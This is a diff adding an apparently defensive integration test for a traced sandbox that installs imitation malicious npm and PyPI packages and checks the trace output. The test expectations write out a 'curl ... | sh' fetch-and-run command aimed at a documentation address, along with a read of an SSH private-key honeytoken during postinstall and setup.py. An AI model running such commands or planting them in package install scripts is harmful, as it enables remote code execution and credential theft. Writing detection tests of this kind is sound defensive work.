@@ -1,0 +1,134 @@
+// The traced sandbox against the real Docker engine: packages that imitate malware (documentation
+// addresses only) show their actions in the raw trace of the right phase; a real registry package
+// with an install script installs and imports cleanly; nothing labeled is left behind.
+import { execFileSync } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { readFile, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage, runSandbox, type PhaseResult } from '@vetbox/sandbox';
+import { FAKE_KEY, NPM_PAYLOAD, PY_PAYLOAD, stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';
+
+const runtime = new DockerRuntime();
+const used: string[] = [];
+const newId = (): string => {
+  const id = `test-sandbox-${randomUUID()}`;
+  used.push(id);
+  return id;
+};
+const honeyKey = [{ path: '.ssh/id_rsa', content: FAKE_KEY, mode: 0o600 }];
+const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };
+
+beforeAll(async () => {
+  await ensureSandboxImage(runtime, { build: true });
+}, 600_000);
+
+afterEach(async () => {
+  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
+});
+
+const trace = (p: PhaseResult): Promise<string> => readFile(p.trace, 'utf8');
+const phase = (phases: PhaseResult[], name: string): PhaseResult => {
+  const p = phases.find((x) => x.name === name);
+  if (!p) throw new Error(`no ${name} phase`);
+  return p;
+};
+
+/** The three imitated actions, as strace -yy prints them. */
+function expectPayloadActions(text: string): void {
+  expect(text).toMatch(/openat\([^\n]*"[^"\n]*\/\.ssh\/id_rsa"[^\n]*= \d+/);
+  expect(text).toMatch(/execve\("[^"]*\/sh", \["sh", "-c", "curl -s -m 2 http:\/\/192\.0\.2\.10:8080\/x \| sh"\]/);
+  expect(text).toMatch(/execve\("[^"]*\/curl", \["curl", "-s", "-m", "2", "http:\/\/192\.0\.2\.10:8080\/x"\]/);
+  expect(text).toMatch(/connect\([^\n]*sin_port=htons\(8080\), sin_addr=inet_addr\("192\.0\.2\.10"\)/);
+}
+
+describe('sandbox: imitation malware', () => {
+  it('npm postinstall: reads ~/.ssh/id_rsa, pipes curl to sh, connects to 192.0.2.10:8080 — in the install trace', async () => {
+    const staged = await stageNpm({
+      name: 'evil-postinstall',
+      scripts: { postinstall: 'node install.js' },
+      files: { 'install.js': NPM_PAYLOAD, 'index.js': 'module.exports = 42;\n' },
+    });
+    const r = await runSandbox({ analysisId: newId(), staged, homeFiles: honeyKey, limits });
+    const install = phase(r.phases, 'install');
+    expect(install.status, JSON.stringify(install)).toBe('completed');
+    expect(install.stdoutTail).toContain('node install.js');
+    expectPayloadActions(await trace(install));
+    // The honeytoken was planted in the randomized home and its content was read.
+    expect(await trace(install)).toContain(`read(17<${r.sandbox.home}/.ssh/id_rsa>`.slice(0, 5));
+    expect(await trace(install)).toContain('vetbox-test-canary-not-a-key');
+    const imp = phase(r.phases, 'import');
+    expect(imp.status).toBe('completed');
+    expect(await trace(imp)).not.toContain('192.0.2.10", 8080');
+    expect(r.sandbox.home).toMatch(/^\/home\/[a-z.-]+$/);
+    expect(r.sandbox.workdir.startsWith(`${r.sandbox.home}/projects/`)).toBe(true);
+    expect(r.sandbox.network).toBe('none');
+  });
+
+  it('PyPI sdist: setup.py does the same during pip install; import finds the module from metadata', async () => {
+    const staged = await stagePypiSdist({
+      name: 'evilpkg',
+      setupPy: `${PY_PAYLOAD}\nfrom setuptools import setup\nsetup(name='evilpkg', version='1.0.0', py_modules=['evilpkg'])\n`,
+      files: { 'evilpkg.py': "import socket\ntry:\n    socket.create_connection(('192.0.2.11', 443), timeout=1)\nexcept Exception:\n    pass\nVALUE = 1\n" },
+    });
+    const r = await runSandbox({ analysisId: newId(), staged, homeFiles: honeyKey, limits });
+    const install = phase(r.phases, 'install');
+    expect(install.status, JSON.stringify(install)).toBe('completed');
+    const installTrace = await trace(install);
+    expectPayloadActions(installTrace);
+    expect(installTrace).not.toContain('inet_addr("192.0.2.11")');
+    // pip --user put the module in the home: a file change with a hash (it is a script).
+    const added = install.fileChanges.find((c) => c.path.endsWith('/site-packages/evilpkg.py'));
+    expect(added).toMatchObject({ kind: 'added', phase: 'install' });
+    expect(added?.sha256).toMatch(/^[0-9a-f]{64}$/);
+    const imp = phase(r.phases, 'import');
+    expect(imp.status, imp.stderrTail).toBe('completed');
+    expect(imp.stdoutTail).toContain('vetbox-import ok evilpkg');
+    expect(await trace(imp)).toMatch(/connect\([^\n]*sin_port=htons\(443\), sin_addr=inet_addr\("192\.0\.2\.11"\)/);
+  });
+
+  it('npm payload that runs only at import: absent from the install trace, present in the import trace', async () => {
+    const staged = await stageNpm({ name: 'lazy-payload', files: { 'index.js': `${NPM_PAYLOAD}\nmodule.exports = {};\n` } });
+    const r = await runSandbox({ analysisId: newId(), staged, homeFiles: honeyKey, limits });
+    const install = phase(r.phases, 'install');
+    expect(install.status).toBe('completed');
+    const installTrace = await trace(install);
+    expect(installTrace).not.toContain('inet_addr("192.0.2.10")');
+    expect(installTrace).not.toContain('/.ssh/id_rsa"');
+    const imp = phase(r.phases, 'import');
+    expect(imp.status).toBe('completed');
+    expectPayloadActions(await trace(imp));
+  });
+
+  it('import runs even when install failed, and install failure is data', async () => {
+    const staged = await stageNpm({
+      name: 'broken-install',
+      scripts: { install: 'node -e "process.exit(3)"' },
+      files: { 'index.js': "require('fs').readFileSync('/etc/hostname');\n" },
+    });
+    const r = await runSandbox({ analysisId: newId(), staged, limits });
+    expect(phase(r.phases, 'install')).toMatchObject({ status: 'error_other' });
+    expect(phase(r.phases, 'install').reason).toMatch(/exit code/);
+    const imp = phase(r.phases, 'import');
+    expect(imp.status).toBe('completed');
+    expect(await trace(imp)).toContain('/etc/hostname');
+  });
+});
+
+describe('sandbox: a real registry package with an install script', () => {
+  it('esbuild (staged on the host with --ignore-scripts) installs and imports: completed', async () => {
+    const dir = await tempDir('esbuild');
+    await writeFile(path.join(dir, 'package.json'), JSON.stringify({ name: 'stage', version: '0.0.0', private: true }));
+    execFileSync('npm', ['install', '--ignore-scripts', '--no-audit', '--no-fund', 'esbuild@0.24.0'], { cwd: dir, stdio: 'pipe' });
+    const staged = {
+      ecosystem: 'npm' as const, name: 'esbuild', version: '0.24.0', source: 'registry' as const, sha256: '', size: 0,
+      dir, archiveFile: 'esbuild-0.24.0.tgz', importNames: ['esbuild'], entryPoints: ['lib/main.js'],
+    };
+    const r = await runSandbox({ analysisId: newId(), staged, limits });
+    const install = phase(r.phases, 'install');
+    expect(install.status, install.stderrTail).toBe('completed');
+    // Its postinstall ran under the trace (it validates the platform binary by running it).
+    expect(await trace(install)).toMatch(/execve\("[^"]*esbuild[^"]*"/);
+    expect(phase(r.phases, 'import').status).toBe('completed');
+  }, 300_000);
+});
